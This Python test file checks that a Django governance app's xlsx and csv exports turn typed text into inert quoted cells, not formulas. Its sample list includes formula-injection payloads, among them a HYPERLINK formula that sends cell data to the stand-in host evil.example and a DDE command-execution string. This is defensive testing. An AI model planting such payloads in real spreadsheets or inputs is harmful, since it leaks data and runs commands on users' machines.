"""Formula injection: text typed into the system never becomes a formula in an exported xlsx or csv."""

from __future__ import annotations

import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from governance.spreadsheet_safety import csv_row, xlsx_row
from grid import events as grid_events
from grid.models import EventCategory
from inspection.models import RoundTarget
from inspection.patrol import ledger_export, reports
from inspection.patrol.circulars import _xlsx_sheet
from inspection.rounds import group_reports as round_reports
from inspection.rounds import onsite
from tests.conftest import photo
from tests.inspection.test_reports import make_item
from tests.inspection.test_round_reports import make_group, make_round, make_taxonomy

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_in_tmp")]

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(1,2)", "=cmd|' /C calc'!A0",
           "\t=1+1", "＝1+1"]


def cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert(content: bytes, *texts: str) -> None:
    """No formula cell, and each text is there exactly as typed, as quoted text."""
    found = cells(content)
    formulas = [cell.value for cell in found if cell.data_type == "f"]
    assert not formulas, formulas
    for text in texts:
        matches = [cell for cell in found if cell.value == text]
        assert matches, text
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in matches), text


def test_the_writers_quote_formula_text_and_leave_numbers_alone():
    assert csv_row(["=1+1", "+1", "-1", "@A1", "普通文字", -3, 2.5, None]) == [
        "'=1+1", "'+1", "'-1", "'@A1", "普通文字", -3, 2.5, None]
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, [*ATTACKS, "普通文字", -3, datetime.date(2026, 1, 5)]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert_inert(buffer.getvalue(), *ATTACKS)
    values = [cell.value for cell in cells(buffer.getvalue())]
    assert -3 in values and "普通文字" in values


def test_without_the_writer_openpyxl_would_store_a_formula():
    """What the writers guard against: the same text appended raw is a live formula."""
    workbook = Workbook()
    workbook.active.append(["=1+1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert cells(buffer.getvalue())[0].data_type == "f"


def test_event_export_is_inert(client, county, personas):
    category = EventCategory.objects.create(code="F01", name="测", parent=EventCategory.objects.create(code="F", name="测"))
    grid_events.report_event(
        by=personas["grid_member"], region=county.grid1, category=category, title=ATTACKS[0], description=ATTACKS[3],
        occurred_at=timezone.now() - datetime.timedelta(hours=1), idempotency_key="f-1", address=ATTACKS[2])
    client.force_login(personas["township_office"])
    response = client.get(reverse("grid:event_export"))
    assert response.status_code == 200
    assert_inert(response.content, ATTACKS[0], ATTACKS[3], ATTACKS[2])


def test_clue_export_is_inert(client, county, personas):
    round_ = make_round(county, personas["county_office"])
    focus = make_taxonomy(round_)
    group = make_group(round_, county.taiping, [county.louxing], number=1, leader=personas["county_office"],
                       members=[personas["inspection_group"]])
    assert focus
    onsite.record_clue(by=personas["inspection_group"], group=group,
                       target=RoundTarget.objects.get(group=group, organisation=county.taiping),
                       people_involved=ATTACKS[4], description=ATTACKS[1], source="@来信")
    client.force_login(personas["county_office"])
    assert_inert(client.get(reverse("inspection:onsite_clue_export")).content, ATTACKS[4], ATTACKS[1], "@来信")


def test_village_ledger_and_department_book_are_inert(county, personas):
    item = make_item(county.taiping, county.agriculture)
    reports.submit_report(by=personas["village_cadre"], village=county.louxing, item=item,
                          occurred_at=timezone.now() - datetime.timedelta(hours=2), location=ATTACKS[0],
                          description=ATTACKS[3], files=[photo()])
    today = timezone.localdate()
    content = ledger_export.export_village_ledger(county.louxing, today - datetime.timedelta(days=1), today,
                                                  by=personas["township_office"])
    assert_inert(content, ATTACKS[0], ATTACKS[3])
    content = ledger_export.export_department_book(county.agriculture, today - datetime.timedelta(days=1), today,
                                                   by=personas["township_office"])
    assert not [cell for cell in cells(content) if cell.data_type == "f"]


def test_round_report_lists_are_inert(county, personas):
    round_ = make_round(county, personas["county_office"])
    focus = make_taxonomy(round_)
    leader = personas["county_office"]
    group = make_group(round_, county.taiping, [county.louxing], number=1, leader=leader)
    sub = next(f for f in focus.values() if f.parent_id)
    onsite.record_finding(by=leader, group=group, target=RoundTarget.objects.get(group=group, organisation=county.louxing),
                          village=county.louxing, focus=sub, title=ATTACKS[0], description=ATTACKS[1],
                          people_involved=ATTACKS[3], for_secretary_meeting=True)
    for kind in ("problems", "secretary"):
        content, _ = round_reports.export(group, kind, "xlsx", by=leader)
        assert_inert(content, ATTACKS[0])


def test_circular_sheets_are_inert():
    workbook = Workbook()
    _xlsx_sheet(workbook, "明细", ["村（居）", "事项"], [["楼星村", ATTACKS[0]], ["大楼村", ATTACKS[3]]], [10, 10])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert_inert(buffer.getvalue(), ATTACKS[0], ATTACKS[3])
